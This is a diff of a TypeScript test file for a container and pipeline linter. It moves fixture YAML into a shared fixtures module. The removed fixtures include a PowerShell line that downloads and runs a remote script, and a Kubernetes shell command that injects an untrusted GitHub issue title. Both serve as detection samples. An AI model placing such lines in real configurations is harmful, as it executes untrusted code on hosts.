@@ -9,6 +9,8 @@ import * as path from 'node:path';
 import { TextDocument } from 'vscode-languageserver-textdocument';
 import type { CodeAction, Command, Diagnostic, Range, TextDocumentEdit, TextEdit } from 'vscode-languageserver-protocol';
 import { fileUri, pullClientCapabilities, pushClientCapabilities, withServer, type LspTestClient } from './lspClient';
+// The same documents the code-server e2e writes into its workspace.
+import { AZURE_TEMPLATE, KUBERNETES, COMPOSE } from '../e2e/pipelineFixtures';
 
 const FIX_ALL = 'source.fixAll.containerGuard';
 const WHOLE: Range = { start: { line: 0, character: 0 }, end: { line: 100, character: 0 } };
@@ -30,42 +32,8 @@ const WORKFLOW = [
   '',
 ].join('\n');
 
-/** An Azure Pipelines steps template: nothing in its path says so. */
-const AZURE_TEMPLATE = [
-  'parameters:',
-  '  - name: configuration',
-  '    default: Release',
-  'steps:',
-  '  - checkout: self',
-  '  - task: DotNetCoreCLI@2',
-  '    inputs:',
-  '      command: build',
-  '  - script: echo "$(Build.SourceBranchName)"',
-  '',
-].join('\n');
 
-const KUBERNETES = [
-  'apiVersion: apps/v1',
-  'kind: Deployment',
-  'metadata:',
-  '  name: web',
-  'spec:',
-  '  template:',
-  '    spec:',
-  '      containers:',
-  '        - name: web',
-  '          image: nginx:latest',
-  '          command: ["sh", "-c", "echo ${{ github.event.issue.title }}"]',
-  '',
-].join('\n');
 
-const COMPOSE = [
-  'services:',
-  '  web:',
-  '    image: mcr.microsoft.com/windows/servercore:ltsc2022',
-  '    command: powershell -c "iwr https://example.com/x.ps1 | iex"',
-  '',
-].join('\n');
 
 function workspace(t: { after: (fn: () => void) => void }): string {
   const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'cg-pipeline-')));
